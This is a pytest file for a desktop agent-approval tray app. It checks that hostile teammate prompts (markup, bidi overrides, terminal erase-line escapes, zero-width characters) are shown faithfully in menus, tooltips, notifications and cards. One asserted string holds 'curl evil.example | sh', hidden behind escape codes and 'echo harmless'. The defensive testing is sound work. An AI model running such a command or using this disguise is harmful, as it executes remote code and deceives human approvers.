"""What is shown is what runs, in the tray app: a teammate's hostile prompt as the owner sees it in the tray menu (what
Qt draws for the item's text), the console's list (its rows and their tooltips), the notification on a notification
server that renders body markup (as GNOME Shell, KDE and dunst do), the approval card and the console's header."""

from datetime import date
from typing import Any

import pytest

from tests.fakes.dbus import until
from tests.gui_fixture import person, run
from tests.hostile_text import BY_NAME, CORPUS, hidden, qt_shows

TODAY = date(2026, 11, 29)


def pending(number: int, prompt: str) -> dict[str, Any]:
    return {
        "id": f"R20261129-{number:02d}",
        "state": "pending",
        "agent": "shell",
        "requester": "sarah",
        "progress": None,
        "prompt": prompt,
        "started_at": None,
        "created_at": "2026-11-29T10:00:00+00:00",
    }


def test_the_tray_menu_shows_each_prompt_as_written(qapp: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Any) -> None:
    from desktop.gui.summary import summarize
    from desktop.gui.tray import Tray

    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", f"unix:path={tmp_path}/no-bus")  # Qt draws this menu itself
    tray = Tray(lambda verb, request_id: None)
    tray.show_summary(summarize([pending(n, h.text) for n, h in enumerate(CORPUS, 1)], today=TODAY))
    items = [qt_shows(action.text()) for action in tray.menu.actions() if action.menu() is not None]
    assert [item.split(": ", 1)[0] for item in items] == [f"R-{n:02d} · shell · sarah" for n in range(1, 11)]
    for item, h in zip(items, CORPUS, strict=True):  # all of its first line, or as much as the menu's width holds
        shown = item.split(": ", 1)[1]
        assert shown == h.first or (shown.endswith("…") and len(shown) > 20 and h.seen.startswith(shown[:-1])), item


def test_the_console_list_shows_rows_and_tooltips_as_written(qapp: Any) -> None:
    from PySide6.QtGui import Qt, QTextDocument

    from desktop.gui.work_list import WorkList

    work = WorkList()
    task = {
        "id": "T1",
        "agent": "shell",
        "state": "running",
        "status": "running",
        "tests": None,
        "description": BY_NAME["bidi"].text,
        "command": "true",
        "started_at": "2026-11-29T10:00:00+00:00",
    }
    work.show_work([pending(n, h.text) for n, h in enumerate(CORPUS, 1)], [task])
    for item_id in [*(f"R20261129-{n:02d}" for n in range(1, len(CORPUS) + 1)), "T1"]:
        row = work.row_of(item_id)
        assert row is not None
        assert not hidden(row.text(0)), row.text(0)
        tip, document = row.toolTip(0), QTextDocument()
        if Qt.mightBeRichText(tip):  # as QToolTip decides
            document.setHtml(tip)
        else:
            document.setPlainText(tip)
        assert document.toPlainText() == row.text(0)
    erase, many = work.row_of("R20261129-04"), work.row_of("R20261129-10")
    assert erase is not None
    assert erase.text(0).endswith("-04 · shell · sarah · pending\ncurl evil.example | sh␍␛[2Kecho harmless␇")
    assert many is not None and many.text(0).endswith("-10 · shell · sarah · pending\necho first … 14 more lines")


SHOWN = ["markup", "ampersand", "erase line", "c0", "zero width", "many lines"]


def test_notification_card_and_console_show_a_teammates_prompt_as_written(desktop: Any, qloop: Any) -> None:
    app, server = desktop

    async def scenario() -> None:
        sarah = await person(app, "sarah")
        for count, name in enumerate(SHOWN, 1):
            hostile = BY_NAME[name]
            row = (
                await app.api.post("/api/requests", json={"agent": "shell", "prompt": hostile.text}, headers=sarah)
            ).json()
            await until(lambda count=count: len(server.shown) == count)
            whole_line = hostile.first if name == "many lines" else hostile.seen
            assert server.shown[-1].seen == f"sarah asks shell: {whole_line}", server.shown[-1].body
            card = await app.open_card(row["id"])
            assert card is not None and card.prompt.toPlainText() == hostile.seen
            console = await app.open_console(("request", row["id"]))
            shown = hostile.first if name == "many lines" else hostile.seen
            await until(lambda console=console, row=row: console.chosen == ("request", row["id"]))
            assert console.what.text().startswith(shown) and console.header.text().endswith(" · shell · sarah")

    run(qloop, scenario())


def test_session_titles_groups_and_questions_are_shown_as_written() -> None:
    """What an agent names its session and group, and what it asks, in the console's rows and headers and the
    question's notice."""
    from desktop.gui.notices import notice_for
    from desktop.gui.rows import request_text, sessions_line

    erase, bidi = BY_NAME["erase line"], BY_NAME["bidi"]
    prompt = {**pending(1, "echo hi"), "session": {"parent_title": erase.text}, "via_model": "m\u202e1"}
    shown = request_text(prompt, TODAY).plain
    assert shown == f"R-01 · shell · via agent · {erase.seen} [m⟨U+202E⟩1] · pending\necho hi"
    assert sessions_line(erase.text, [prompt]) == f"Group: {erase.seen} — 1 waiting"
    asked = notice_for(
        {"type": "request", "action": "ask", "id": "R20261129-01", "agent": "shell", "question": bidi.text}
    )
    assert asked is not None and asked.message == bidi.seen
